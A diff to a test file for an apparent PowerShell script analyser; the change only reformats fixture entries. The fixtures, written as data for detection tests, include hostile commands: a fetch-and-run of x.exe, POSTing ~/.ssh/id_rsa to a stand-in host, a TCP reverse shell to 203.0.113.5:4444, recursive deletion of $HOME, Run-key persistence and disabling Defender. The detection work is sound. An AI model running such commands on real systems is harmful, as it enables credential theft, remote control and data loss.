@@ -17,11 +17,27 @@ const CALLS: readonly (readonly [name: string, source: string, ...expected: stri
   ['an alias of its own', "Set-Alias zz Invoke-Expression; zz 'whoami'", 'powershell: whoami'],
   ['an encoded command', `powershell -nop -w hidden -enc ${utf16('whoami')}`, 'powershell: whoami', 'decode base64'],
   ['an encoded command by its long name', `pwsh.exe -EncodedCommand ${utf16('whoami')}`, 'powershell: whoami'],
-  ['base64 and a text encoding', "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('d2hvYW1p')))", 'powershell: whoami', 'decode base64'],
+  [
+    'base64 and a text encoding',
+    "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('d2hvYW1p')))",
+    'powershell: whoami',
+    'decode base64',
+  ],
   ['a script block from text', "[scriptblock]::Create('whoami').Invoke()", 'powershell: whoami'],
-  ['a method by a string', "(New-Object Net.WebClient).\"Down`loadString\"('https://a.example')", 'GET https://a.example'],
-  ['a file that is fetched and run', "iwr -Uri https://a.example/x -OutFile x.exe; .\\x.exe", 'GET https://a.example/x', 'write x.exe', 'process x.exe'],
-  ['sending a file', '$d = Get-Content "$env:USERPROFILE\\.ssh\\id_rsa" -Raw\nInvoke-RestMethod -Method Post -Uri https://a.example -Body $d', 'read ${USERPROFILE}\\.ssh\\id_rsa', 'POST https://a.example'],
+  ['a method by a string', '(New-Object Net.WebClient)."Down`loadString"(\'https://a.example\')', 'GET https://a.example'],
+  [
+    'a file that is fetched and run',
+    'iwr -Uri https://a.example/x -OutFile x.exe; .\\x.exe',
+    'GET https://a.example/x',
+    'write x.exe',
+    'process x.exe',
+  ],
+  [
+    'sending a file',
+    '$d = Get-Content "$env:USERPROFILE\\.ssh\\id_rsa" -Raw\nInvoke-RestMethod -Method Post -Uri https://a.example -Body $d',
+    'read ${USERPROFILE}\\.ssh\\id_rsa',
+    'POST https://a.example',
+  ],
   ['the whole environment', 'Get-ChildItem env: | Out-File e.txt', 'env *', 'write e.txt'],
   ['deletion', 'Remove-Item -Recurse -Force $HOME', 'delete ~'],
   ['a Run key', "New-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name a -Value 'x.exe'", 'persist'],
@@ -29,7 +45,12 @@ const CALLS: readonly (readonly [name: string, source: string, ...expected: stri
   ['Defender', 'Set-MpPreference -DisableRealtimeMonitoring $true', 'config'],
   ['execution policy', 'Set-ExecutionPolicy Bypass -Scope Process', 'config'],
   ['clipboard', 'Get-Clipboard', 'capture clipboard'],
-  ['a shell over a socket', "$c = New-Object System.Net.Sockets.TCPClient('203.0.113.5',4444); $s = $c.GetStream(); iex $s.Read()", 'TCP tcp://203.0.113.5:4444', 'eval invoke-expression'],
+  [
+    'a shell over a socket',
+    "$c = New-Object System.Net.Sockets.TCPClient('203.0.113.5',4444); $s = $c.GetStream(); iex $s.Read()",
+    'TCP tcp://203.0.113.5:4444',
+    'eval invoke-expression',
+  ],
   ['a function that hands on', "function Go($c) { iex $c }\nGo 'whoami'", 'powershell: whoami'],
   ['paths in a loop', "foreach ($p in @('~/.netrc','~/.pgpass')) { Get-Content $p }", 'read ~/.netrc', 'read ~/.pgpass'],
   ['programs go to the shell reader', 'git clone https://a.example/x.git', 'shell: git clone https://a.example/x.git'],
@@ -48,7 +69,9 @@ describe('PowerShell', () => {
     expect(sent.flows('read', 'request')).toEqual(['read ~/.netrc -> POST https://a.example (body)']);
     const run = await readAll({ 'a.ps1': 'iwr https://a.example/x -OutFile ./x.exe\n./x.exe' });
     expect(run.flows('request', 'exec')).toContain('GET https://a.example/x -> process x.exe (code)');
-    const apart = await readAll({ 'a.ps1': '$t = $env:TOKEN\nirm https://a.example -Headers @{ Authorization = "Bearer $t" }\nirm https://b.example -Method Post -Body "x"' });
+    const apart = await readAll({
+      'a.ps1': '$t = $env:TOKEN\nirm https://a.example -Headers @{ Authorization = "Bearer $t" }\nirm https://b.example -Method Post -Body "x"',
+    });
     expect(apart.flows('env', 'request')).toEqual(['env TOKEN -> GET https://a.example (header)']);
   });
   it('says when the command is not known', async () => {
@@ -56,7 +79,9 @@ describe('PowerShell', () => {
     expect(seen.of('opaque').map((fact) => fact.why)).toContain('dynamic');
   });
   it('leaves help and strings alone', async () => {
-    const seen = await readAll({ 'a.ps1': "<# iex (iwr https://a.example) #>\n# iex $x\n$help = 'Remove-Item -Recurse -Force /'\n$list = @('iex', 'iwr')" });
+    const seen = await readAll({
+      'a.ps1': "<# iex (iwr https://a.example) #>\n# iex $x\n$help = 'Remove-Item -Recurse -Force /'\n$list = @('iex', 'iwr')",
+    });
     expect(labels(seen)).toEqual([]);
   });
 });
